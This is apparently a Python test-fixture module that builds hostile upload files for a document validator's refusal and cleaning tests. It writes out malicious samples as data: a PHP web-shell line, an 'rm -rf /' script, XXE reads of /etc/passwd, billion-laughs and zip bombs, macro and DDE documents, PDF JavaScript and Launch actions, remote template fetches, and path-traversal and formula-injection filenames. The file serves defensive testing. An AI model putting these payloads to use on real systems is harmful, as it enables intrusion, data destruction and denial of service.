"""Hostile files, made by the tests: more than a hundred, each with the name it comes under."""

import gzip
import io
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Iterator

from PIL import Image

from documents.kinds import LARGEST
from tests.documents.files import DOCX_MAIN, W, archive, docx, heic, object_stream, odt, pdf, picture, relationships
from tests.scanner import INFECTED

STAR_OBJECT = "application/vnd.sun.star.oleobject"
OFFICE = "application/vnd.openxmlformats-officedocument"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MACRO_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504
MZ = b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0" + b"\0" * 200 + b"This program cannot be run in DOS mode."
ELF = b"\x7fELF\x02\x01\x01" + b"\0" * 57
SCRIPT = b"<script>alert(document.cookie)</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "ha">'
    + b"".join(b'<!ENTITY %c "&%c;&%c;&%c;&%c;">' % (c + 1, c, c, c, c) for c in range(97, 117))
    + b"]><x>&u;</x>"
)
OUTSIDE = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'


def refused() -> Iterator[tuple[str, bytes]]:
    """Files that are not taken."""
    yield from _other_kinds()
    yield from _not_what_they_seem()
    yield from _two_in_one()
    yield from _bombs()
    yield from _documents_with_more_in_them()
    yield from _pdfs_with_more_in_them()


def _other_kinds() -> Iterator[tuple[str, bytes]]:
    """What nobody needs to send, under its own name and under a trusted one."""
    kinds = {
        "program.exe": MZ,
        "program.elf": ELF,
        "page.html": b"<!DOCTYPE html><html>" + SCRIPT,
        "fragment.htm": b"  \n\t" + SCRIPT,
        "picture.svg": SVG,
        "picture-with-prolog.svg": b'<?xml version="1.0"?>' + SVG,
        "late.html": b"Dear all\n\n<html>" + SCRIPT,
        "comment.html": b"<!-- --><b onclick=alert(1)>",
        "page.php": b"<?php system($_GET[0]); ?>",
        "run.sh": b"#!/bin/sh\nrm -rf /\n",
        "page.rtf": rb"{\rtf1\ansi{\object\objupdate}}",
        "page.ps": b"%!PS-Adobe-3.0\n(/etc/passwd) (r) file\n",
        "old.doc": OLE + b"W\0o\0r\0d\0",
        "old.xls": OLE + b"W\0o\0r\0k\0b\0o\0o\0k\0",
        "message.msg": OLE,
        "sheet.xlsx": archive({"[Content_Types].xml": _types(f"{OFFICE}.spreadsheetml.sheet.main+xml")}),
        "slides.pptx": archive({"[Content_Types].xml": _types(f"{OFFICE}.presentationml.presentation.main+xml")}),
        "things.zip": archive({"run.exe": MZ}),
        "program.jar": archive({"META-INF/MANIFEST.MF": "Main-Class: X", "X.class": b"\xca\xfe\xba\xbe"}),
        "program.apk": archive({"AndroidManifest.xml": "x", "classes.dex": "dex"}),
        "sheet.ods": odt(said="application/vnd.oasis.opendocument.spreadsheet"),
        "moving.gif": picture("GIF"),
        "picture.bmp": picture("BMP"),
        "picture.tiff": picture("TIFF"),
        "picture.webp": picture("WEBP"),
        "icon.ico": picture("ICO", size=(32, 32)),
        "film.mp4": b"\0\0\0\x20ftypisom" + b"\0" * 64,
        "picture.avif": b"\0\0\0\x20ftypavif" + b"\0" * 64,
        "sound.mp3": b"ID3\x04" + b"\0" * 64,
        "packed.gz": gzip.compress(b"x" * 1000),
        "packed.7z": b"7z\xbc\xaf\x27\x1c" + b"\0" * 40,
        "packed.rar": b"Rar!\x1a\x07\0" + b"\0" * 40,
        "packed.tar": _tar(),
        "disk.iso": b"\0" * 32768 + b"\x01CD001",
        "link.lnk": b"L\0\0\0\x01\x14\x02\0" + b"\0" * 60,
        "module.wasm": b"\0asm\x01\0\0\0",
        "cached.pyc": b"\xcb\r\r\n" + b"\0" * 16,
    }  # fmt: skip
    yield from kinds.items()
    for name in ("program.exe", "page.html", "picture.svg", "old.doc", "things.zip"):
        for ending in ("pdf", "docx", "txt", "jpg"):
            yield f"renamed-{name}.{ending}", kinds[name]


def _not_what_they_seem() -> Iterator[tuple[str, bytes]]:
    """Empty, cut off, too large, or only their first bytes right."""
    yield "empty.pdf", b""
    yield "empty.txt", b""
    yield "too-large.txt", b"x" * (LARGEST + 1)
    yield "too-large.pdf", pdf(b"<< /Length 1 >>\nstream\n" + b"x" * LARGEST + b"\nendstream")
    yield "nul.txt", b"words\0words"
    yield "bell.txt", b"words\x07words\x1b[2J"
    yield "half-a-pair.txt", b"\xff\xfe\x00\xd8"
    yield "odd.txt", b"\xff\xfea"
    yield "only-magic.pdf", b"%PDF-1.7\n"
    yield "strange-version.pdf", b"%PDF-9.9\n" + pdf()[9:]
    yield "cut.pdf", pdf()[:-60]
    yield "tail.pdf", pdf() + b"x" * 5000
    yield "only-magic.png", b"\x89PNG\r\n\x1a\n"
    yield "cut.png", picture("PNG")[:60]
    yield "broken.png", picture("PNG")[:40] + b"\xff" * 40 + picture("PNG")[80:]
    yield "only-magic.jpg", b"\xff\xd8\xff"
    yield "cut.jpg", picture()[:200]
    yield "only-magic.heic", b"\0\0\0\x18ftypheic" + b"\0" * 12
    yield "cut.heic", heic()[:200]
    yield "only-magic.docx", b"PK\x03\x04"
    yield "cut.docx", docx()[:-30]
    yield "broken.docx", _with_broken_sum(docx())
    yield "no-document.docx", archive({"[Content_Types].xml": _types(DOCX_MAIN), "word/document.xml": "<w:document"})
    yield "no-content.odt", archive({"mimetype": "application/vnd.oasis.opendocument.text"})


def _two_in_one() -> Iterator[tuple[str, bytes]]:
    """Polyglots: two programs read the same bytes as two different things."""
    jar = archive({"META-INF/MANIFEST.MF": "Main-Class: X"})
    yield "pdf-and-zip.pdf", pdf() + jar
    yield "pdf-in-zip-comment.pdf", pdf()[:-6] + jar + b"%%EOF\n"
    yield "zip-and-pdf.docx", docx() + pdf()
    yield "program-and-docx.docx", MZ + docx()
    yield "words-before.docx", b"words " + docx()
    yield "comment.docx", _with_comment(docx(), SCRIPT)
    yield "html-and-pdf.pdf", b"<html>" + SCRIPT + pdf()
    yield "twice.docx", _with_a_part_twice()
    yield "gap.docx", _with_a_gap(docx())


def _bombs() -> Iterator[tuple[str, bytes]]:
    """Small to send, large to open."""
    yield "zip-bomb.docx", docx({"word/media/x.bin": b"\0" * 60_000_000})
    yield "many-parts.docx", docx({f"word/p{number}.bin": "" for number in range(4000)})
    yield "large.odt", odt({f"Pictures/{number}": b"\0" * 900_000 for number in range(240)})
    yield "lying.docx", _lying_about_size()
    yield "overlapping.docx", _overlapping()
    for name, make in (("docx", docx), ("odt", odt)):
        part = "word/styles.xml" if name == "docx" else "styles.xml"
        yield f"laughs.{name}", make({part: LAUGHS})
        yield f"outside.{name}", make({part: OUTSIDE})
        yield (
            f"laughs-utf16.{name}",
            make({part: LAUGHS.decode().replace('1.0"', '1.0" encoding="utf-16"').encode("utf-16")}),
        )
    yield "laughs.xml", LAUGHS
    yield "objects-bomb.pdf", pdf(object_stream(b"\0" * 70_000_000))
    yield "pixels.png", _png_that_says(60_000, 60_000)
    yield "pixels.jpg", _jpeg_that_says(65_500, 65_500)
    yield "pixels-packed.png", _black_png(20_000, 20_000)
    yield "text-bomb.png", _png_with_text(b"\0" * 30_000_000)


def _documents_with_more_in_them() -> Iterator[tuple[str, bytes]]:
    """Macros, embedded programs, strings to elsewhere, passwords."""
    yield "macro.docm", docx({"word/vbaProject.bin": OLE}, main=MACRO_MAIN)
    yield "macro.docx", docx({"word/vbaProject.bin": OLE})
    yield "macro-data.docx", docx({"word/vbaData.xml": "<x/>"})
    yield "macro-other-case.docx", docx({"word/VBAPROJECT.BIN": OLE})
    yield "macro-main.docx", docx(main=MACRO_MAIN)
    yield "macro-escaped.docx", docx(main=MACRO_MAIN.replace("macro", "&#109;acro"))
    yield "template.dotm", docx(main="application/vnd.ms-word.template.macroEnabledTemplate.main+xml")
    yield "template.dotx", docx(main=DOCX_MAIN.replace("document.main", "template.main"))
    yield "basic.odt", odt({"Basic/Standard/Module1.xml": "<x/>"})
    yield "python.odt", odt({"Scripts/python/x.py": "import os"})
    yield "activex.docx", docx({"word/activeX/activeX1.xml": "<x/>"})
    yield "object.docx", docx({"word/embeddings/oleObject1.bin": OLE})
    yield "program-inside.docx", docx({"word/embeddings/run.exe": MZ})
    yield "page-inside.docx", docx({"word/page.html": SCRIPT})
    yield "macro-sheet-inside.docx", docx({"word/embeddings/sheet.xlsm": "x"})
    for kind in ("attachedTemplate", "oleObject", "frame", "subDocument"):
        part = relationships(f"{REL}/{kind}", "https://hostile.example/x.dotm", "External")
        yield f"fetches-{kind}.docx", docx({"word/_rels/settings.xml.rels": part})
    shared = relationships(f"{REL}/attachedTemplate", "file:///\\\\hostile.example\\share\\x.dotm", "External")
    yield "fetches-from-a-share.docx", docx({"word/_rels/settings.xml.rels": shared})
    field = (
        '<w:document xmlns:w="{}"><w:instrText>DDE</w:instrText><w:instrText>AUTO c:\\cmd</w:instrText></w:document>'
    )
    yield "dde.docx", docx(document=field.format(W))
    yield (
        "dde-simple.docx",
        docx(document=f'<w:document xmlns:w="{W}"><w:fldSimple w:instr="DDEAUTO cmd"/></w:document>'),
    )
    yield "locked.docx", OLE + "EncryptedPackage".encode("utf-16-le")
    yield "locked-part.docx", _locked(docx())
    yield "locked.odt", odt({"META-INF/manifest.xml": "<m:manifest xmlns:m='urn:x'><m:encryption-data/></m:manifest>"})
    yield (
        "object.odt",
        odt({"META-INF/manifest.xml": f"<m:m xmlns:m='urn:x'><m:f m:media-type='{STAR_OBJECT}'/></m:m>"}),
    )
    yield "leads-out.docx", docx({"../../etc/cron.d/x": "x"})
    yield "leads-out-windows.docx", docx({"..\\x.bat": "x"})


def _pdfs_with_more_in_them() -> Iterator[tuple[str, bytes]]:
    """Programs, files and passwords, written in each way that a reader understands."""
    action = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
    yield "javascript.pdf", pdf(action)
    yield "javascript-escaped.pdf", pdf(action.replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS", b"/#4aS"))
    yield "javascript-packed.pdf", pdf(object_stream(b"9 0 " + action))
    yield "javascript-packed-escaped.pdf", pdf(object_stream(b"9 0 " + action).replace(b"/ObjStm", b"/Obj#53tm"))
    yield "launch.pdf", pdf(b"<< /S /Launch /F (cmd.exe) >>")
    yield "attachment.pdf", pdf(b"<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream")
    yield "attachments.pdf", pdf(b"<< /Names << /EmbeddedFiles 9 0 R >> >>")
    yield "media.pdf", pdf(b"<< /Subtype /RichMedia >>")
    yield "locked.pdf", pdf(b"<< /Encrypt 9 0 R >>")


def cleaned() -> Iterator[tuple[str, bytes]]:
    """Pictures that are taken, and whose hostile part does not survive being made anew."""
    yield "program-behind.jpg", picture() + MZ
    yield "zip-behind.jpg", picture() + archive({"x": "x"})
    yield "page-behind.png", picture("PNG") + SCRIPT
    yield "virus-behind.png", picture("PNG") + INFECTED
    yield "comment.jpg", picture(comment=SCRIPT)
    yield "text.png", _png_with_text(SCRIPT * 3)
    exif = Image.Exif()
    exif[0x010E] = "Marrowgate 53.79 north"
    exif.get_ifd(0x8825)[1] = "N"
    yield "where.jpg", picture(exif=exif)
    yield "where.png", picture("PNG", exif=exif)
    yield "where.heic", heic(exif=exif.tobytes())


NAMES = (
    "../../../etc/passwd", "..\\..\\windows\\system32\\x.txt", "/etc/shadow", "C:\\autoexec.txt", "a\nb\r\nc.txt",
    "evil\r\nSet-Cookie: a=b.txt", "x\u202etxt.exe", "nul\x00byte.txt", "\ud800half.txt", "a" * 500 + ".txt",
    "con.txt", 'quote".txt', "semi;colon.txt", "<script>alert(1)</script>.txt", "percent%2e%2e%2f.txt", ".htaccess",
    "Siân’s letter – tŷ.txt", "写真.txt", " . . ", "name:stream.txt", "trailing. . .", "a/b/c.txt", "\u200b\u200b.txt",
    "=cmd|' /C calc'!A0.txt",
)  # fmt: skip


def _types(main: str) -> str:
    return (
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        f'<Override PartName="/word/document.xml" ContentType="{main}"/></Types>'
    )


def _tar() -> bytes:
    made = io.BytesIO()
    with tarfile.open(fileobj=made, mode="w") as packed:
        entry = tarfile.TarInfo("../../x")
        packed.addfile(entry, io.BytesIO())
    return made.getvalue()


def _with_comment(data: bytes, comment: bytes) -> bytes:
    return data[:-2] + struct.pack("<H", len(comment)) + comment


def _with_broken_sum(data: bytes) -> bytes:
    made = bytearray(data)
    at = made.index(b"word/document.xml") + len(b"word/document.xml") + 8
    made[at] ^= 0xFF
    return bytes(made)


def _with_a_part_twice() -> bytes:
    made = io.BytesIO(docx())
    with zipfile.ZipFile(made, "a") as packed:
        import warnings

        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            packed.writestr("word/document.xml", "<other/>")
    return made.getvalue()


def _with_a_gap(data: bytes) -> bytes:
    """Something before the first part, with every place moved so that the archive still reads."""
    made = io.BytesIO()
    made.write(b"PK\x03\x04" + MZ)
    with zipfile.ZipFile(made, "a") as packed, zipfile.ZipFile(io.BytesIO(data)) as old:
        for name in old.namelist():
            packed.writestr(name, old.read(name))
    return made.getvalue()


def _lying_about_size() -> bytes:
    """Says that 60 MB unpack to 100 bytes."""
    data = bytearray(docx({"word/media/x.bin": b"\0" * 60_000_000}))
    for mark, place in ((b"PK\x01\x02", 24), (b"PK\x03\x04", 22)):
        at = data.rindex(b"word/media/x.bin") if mark == b"PK\x01\x02" else data.index(b"word/media/x.bin")
        start = data.rindex(mark, 0, at)
        data[start + place : start + place + 4] = struct.pack("<L", 100)
    return bytes(data)


def _overlapping() -> bytes:
    """Every entry of the list names the same packed bytes."""
    data = docx({"word/a.bin": b"\0" * 900_000})
    end = data.rindex(b"PK\x05\x06")
    entry = data.rindex(b"PK\x01\x02")
    name = b"word/a.bin"
    copies = b"".join(
        data[entry:end].replace(name, b"word/b%03d" % number + b"x" * (len(name) - 9)) for number in range(500)
    )
    count = struct.unpack("<H", data[end + 10 : end + 12])[0] + 500
    size = struct.unpack("<L", data[end + 12 : end + 16])[0] + len(copies)
    record = bytearray(data[end:])
    record[8:10] = record[10:12] = struct.pack("<H", count)
    record[12:16] = struct.pack("<L", size)
    return data[:end] + copies + bytes(record)


def _locked(data: bytes) -> bytes:
    made = bytearray(data)
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = made.index(mark)
        made[at + place] |= 1
    return bytes(made)


def _chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">L", len(body)) + kind + body + struct.pack(">L", zlib.crc32(kind + body))


def _png(width: int, height: int, rows: bytes, *more: bytes) -> bytes:
    header = _chunk(b"IHDR", struct.pack(">LLBBBBB", width, height, 1, 0, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + header + b"".join(more) + _chunk(b"IDAT", rows) + _chunk(b"IEND", b"")


def _png_that_says(width: int, height: int) -> bytes:
    return _png(width, height, zlib.compress(b"\0" * 100))


def _black_png(width: int, height: int) -> bytes:
    return _png(width, height, zlib.compress(b"\0" * ((width // 8 + 1) * height), 9))


def _png_with_text(text: bytes) -> bytes:
    return _png(8, 1, zlib.compress(b"\0\0"), _chunk(b"zTXt", b"Comment\0\0" + zlib.compress(text)))


def _jpeg_that_says(width: int, height: int) -> bytes:
    made = bytearray(picture())
    at = made.index(b"\xff\xc0")
    made[at + 5 : at + 9] = struct.pack(">HH", height, width)
    return bytes(made)
